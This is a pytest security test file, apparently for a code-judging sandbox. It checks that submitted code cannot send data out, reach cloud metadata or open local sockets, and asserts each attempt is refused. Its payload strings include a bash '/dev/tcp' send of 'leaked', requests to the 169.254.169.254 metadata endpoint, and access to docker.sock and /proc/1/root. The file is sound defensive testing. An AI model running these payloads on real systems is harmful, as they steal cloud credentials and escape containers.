"""Attack 48: send things out, ask the cloud's metadata service. A case has a network of its own, with nobody in it."""

import contextlib
import os
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from course.judge.isolation import Isolation
from tests.attacks.conftest import Attack
from tests.attacks.tries import open_folder, outcomes, require_refused, trying

UNREACHABLE = frozenset({"ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH", "ENOENT", "EPERM", "EACCES", "gaierror"})
FIRST = """
import socket, subprocess, urllib.request
def tcp(address, family=socket.AF_INET):
    with socket.socket(family) as connection:
        connection.settimeout(1)
        connection.connect(address)
        return connection.send(b"leaked")
def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        return connection.sendto(b"leaked", address)
def local(address, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as connection:
        connection.connect(address)
        return connection.send(b"leaked")
def raw(family, kind, protocol):
    return socket.socket(family, kind, protocol)
def url(address):
    try:
        return urllib.request.urlopen(address, timeout=1).read()
    except urllib.error.URLError as error:
        raise error.reason
def shell(text):
    done = subprocess.run(["bash", "-c", text], capture_output=True, text=True)
    return "sent" if done.returncode == 0 else os.stat("/nothing")
def loopback():
    with socket.create_server(("127.0.0.1", 0)) as server:
        with socket.create_connection(server.getsockname(), 1) as client:
            client.send(b"to myself")
            return server.accept()[0].recv(99)
"""
TRIES = {
    "tcp": "tcp(('127.0.0.1', {port}))",
    "tcp_by_name": "tcp(('localhost', {port}))",
    "tcp_of_the_machine": "tcp(({machine!r}, {port}))",
    "tcp_6": "tcp(('::1', {port}), socket.AF_INET6)",
    "tcp_by_shell": "shell('echo leaked > /dev/tcp/127.0.0.1/{port}')",
    "udp_of_the_machine": "udp(({machine!r}, {udp}))",
    "udp_outside": "udp(('192.0.2.1', 53))",
    "metadata": "tcp(('169.254.169.254', 80))",
    "metadata_by_url": "url('http://169.254.169.254/latest/meta-data/')",
    "metadata_6": "tcp(('fd00:ec2::254', 80), socket.AF_INET6)",
    "outside": "tcp(('192.0.2.1', 443))",
    "name": "socket.getaddrinfo('github.com', 443)",
    "socket_file": "local({folder!r} + '/service.sock')",
    "socket_file_by_root": "local('/proc/1/root' + {folder!r} + '/service.sock')",
    "abstract": "local('\\0' + {abstract!r})",
    "docker": "local('/var/run/docker.sock')",
    "raw": "raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "packets": "raw(socket.AF_PACKET, socket.SOCK_RAW, 3)",
}


class Planted:
    """Services of this machine that answer everybody, and what reached them."""

    def __init__(self, folder: Path, stack: contextlib.ExitStack) -> None:
        self.folder = folder
        self.abstract = f"planted-{os.getpid()}-{folder.name}"
        self.tcp = stack.enter_context(socket.create_server(("", 0)))
        self.udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        self.udp.bind(("", 0))
        self.local = [self._listen(stack, name) for name in (f"{folder}/service.sock", f"\0{self.abstract}")]
        (folder / "service.sock").chmod(0o666)
        self.machine = _address_of_machine()

    @staticmethod
    def _listen(stack: contextlib.ExitStack, address: str) -> socket.socket:
        server = stack.enter_context(socket.socket(socket.AF_UNIX))
        server.bind(address)
        server.listen()
        return server

    def tries(self, names: dict[str, str]) -> dict[str, str]:
        """What leads to these services, and out of the machine."""
        told = {
            "port": self.tcp.getsockname()[1],
            "udp": self.udp.getsockname()[1],
            "machine": self.machine,
            "folder": str(self.folder),
            "abstract": self.abstract,
        }
        return {name: way.format(**told) for name, way in names.items()}

    def require_untouched(self) -> None:
        """Nobody has connected, and nothing has come."""
        for server in (self.tcp, *self.local, self.udp):
            server.setblocking(False)
            with pytest.raises(BlockingIOError):
                server.recv(99) if server is self.udp else server.accept()


def _address_of_machine() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 53))  # sends nothing: the kernel only says from where it would
        except OSError:
            return "127.0.0.1"
        address: str = probe.getsockname()[0]
        return address


@pytest.fixture
def planted(isolation: Isolation) -> Iterator[Planted]:
    if {"network", "sockets"} & set(isolation.holes):
        pytest.skip("this machine has no network namespaces")
    with open_folder() as folder, contextlib.ExitStack() as stack:
        yield Planted(folder, stack)


def test_nobody_is_reached(attack: Attack, planted: Planted) -> None:
    tries = planted.tries(TRIES)
    attacked = attack("p13", trying(tries, first=FIRST))
    assert attacked.points == 0
    require_refused(attacked.said, tries, UNREACHABLE)
    planted.require_untouched()


def test_a_process_can_still_talk_to_its_own(attack: Attack, planted: Planted) -> None:
    """The control: the same calls work where there is somebody."""
    attacked = attack("p13", trying({"loopback": "loopback()"}, first=FIRST))
    assert "to myself" in outcomes(attacked.said)["loopback"]
    planted.require_untouched()


@pytest.mark.parametrize("name", ["tcp", "udp_of_the_machine", "name", "socket_file", "abstract", "metadata_by_url"])
def test_a_simulated_lesson_opens_no_connection(attack: Attack, planted: Planted, name: str) -> None:
    """It is refused by name, behind whatever catches the error."""
    tries = planted.tries({name: TRIES[name]})
    attacked = attack("t01", trying(tries, first=FIRST))
    assert attacked.points == 0
    assert "a network connection" in attacked.said
    planted.require_untouched()
